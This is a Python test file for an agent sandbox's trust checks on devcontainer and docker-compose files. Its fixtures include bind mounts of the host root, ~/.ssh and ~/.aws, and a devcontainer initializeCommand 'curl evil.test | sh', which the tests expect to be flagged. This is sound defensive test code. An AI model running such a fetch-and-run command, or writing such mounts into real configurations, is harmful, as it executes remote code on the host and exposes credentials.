from pathlib import Path

import pytest

from agent_sandbox.features.trust.host_access import members, mounts, require_whole, variables
from agent_sandbox.problems import UserError
from agent_sandbox.project.trust_snapshot import Standing
from table_tests import each

COMPOSE = ".devcontainer/docker-compose.yml"


def standing(text: str) -> Standing:
    return Standing(root=Path("/p"), owner=None, stack_files=(COMPOSE,), files={COMPOSE: text})


def test_lists_bind_mounts_in_long_and_short_syntax() -> None:
    text = """\
services:
  agent:
    volumes:
      - {type: bind, source: .., target: /workspace}
      - {type: bind, source: ../.git/hooks, target: /workspace/.git/hooks, read_only: true}
      - {type: bind, source: data, target: /data}
      - {type: volume, source: state, target: /state}
      - /:/host
      - ~/.ssh:/keys:ro,z
      - ./x:/x
      - ${HOME:-/root}/.aws:/aws:ro
      - cache:/cache
      - /anonymous
  odd: []
"""
    assert mounts(standing(text)) == (
        "agent: . as /workspace",
        "agent: .git/hooks as /workspace/.git/hooks, read-only",
        "agent: .devcontainer/data as /data",
        "agent: / as /host",
        "agent: ~/.ssh as /keys, read-only",
        "agent: .devcontainer/x as /x",
        "agent: ${HOME:-/root}/.aws as /aws, read-only",
    )


def test_lists_variables_that_come_from_the_shell() -> None:
    text = """\
services:
  agent:
    image: "${IMAGE:-x}"
    command: ["echo", "$$NOT", "$$$YES"]
    environment: {TOKEN: null, GIVEN: "1", B: "$OTHER"}
  more:
    environment: [AWS_SECRET, C=1]
secrets: {s: {environment: KEY}}
configs: {c: {environment: "$NAME"}}
"""
    assert variables(standing(text)) == ("AWS_SECRET", "IMAGE", "KEY", "NAME", "OTHER", "TOKEN", "YES")


@each(
    ("text", "keys"),
    [
        ("include: [more.yml]", ["include"]),
        ("services: {a: {extends: {file: more.yml, service: b}}}", ["extends"]),
        ("services: {a: {env_file: .env}, b: {env_file: [x.env]}}", ["env_file"]),
        ("services: {a: {<<: {label_file: l}}}", ["<<", "label_file"]),
        ("services: {a: {extends: {<<: {file: ../ci/base.yml}, service: b}}}", ["extends", "<<"]),
        ("services: {a: {extends: {'<<': [{file: ../ci/base.yml}], service: b}}}", ["extends", "<<"]),
        ("services: {a: {<<: {volumes: ['/:/host']}}}", ["<<"]),
        ("services: {a: {build: {context: ..}}, b: {build: .}}", ["build"]),
        ("services: {build: {image: a}, include: {image: b}}\nvolumes: {build: {}}\nnetworks: {build: {}}", []),
        ("services: {build: {build: .}}\nvolumes: {build: {}}", ["build"]),
        ("services: {<<: {a: {build: {image: b}}}}", ["<<", "build"]),
        ("services: {a: {image: b}}\nbuild: .", ["build"]),
        ("services: {a: {provider: {type: ./tools/start}}}", ["provider"]),
        (
            "services: {a: {security_opt: [no-new-privileges=true, 'seccomp:../profile.json']}}",
            ["security_opt: seccomp"],
        ),
        ("services: {a: {security_opt: [seccomp=unconfined, no-new-privileges]}}", []),
        ("configs: {c: {file: ../c}}\nsecrets: {s: {file: ../s}}", ["configs: file", "secrets: file"]),
        ("services: {a: {command: [x], secrets: [s]}}\nsecrets: {s: {environment: S}}", []),
        ("services: {a: {extends: b, env_file: []}, b: {extends: {service: c}}}", []),
    ],
)
def test_refuses_to_trust_a_compose_file_that_includes_other_files(text: str, keys: list[str]) -> None:
    if not keys:
        require_whole(standing(text))
        return
    with pytest.raises(UserError) as raised:
        require_whole(standing(text))
    hint = "write it here, or name the file in `COMPOSE_FILE` in .env; a variable may come from your shell"
    assert [str(problem) for problem in raised.value.problems] == [
        f"/p/{COMPOSE}: `{key}` includes another file, which trust in this file does not cover; {hint}" for key in keys
    ]


def test_an_alias_in_a_compose_file_is_refused_with_its_place() -> None:
    text = "x: &x [a]\nservices: {a: {command: *x}}"
    for look in (require_whole, mounts, variables):
        with pytest.raises(UserError) as raised:
            look(standing(text))
        assert str(raised.value) == f"/p/{COMPOSE}:2:25: an alias (`*x`); write the value out"


def test_our_compose_file_uses_no_variables_of_the_shell() -> None:
    golden = Path(__file__).parents[3] / "golden" / "claude" / "devcontainer" / "docker-compose.yml"
    assert variables(standing(golden.read_text())) == ()


def test_lists_settings_in_devcontainer_json_that_differ_from_ours() -> None:
    text = """{"name": "x", "initializeCommand": "curl evil.test | sh", "features": {}, "remoteUser": "dev"}"""
    ours = {"name": "app", "remoteUser": "dev"}
    assert members(text, ours) == (
        'name: "x"',
        'on this machine, initializeCommand: "curl evil.test | sh"',
        "features: {}",
    )


def test_reports_the_place_of_an_error_in_devcontainer_json() -> None:
    assert members("{", {})[0].startswith(".devcontainer/devcontainer.json:1:2: ")
    assert members(None, {}) == ()
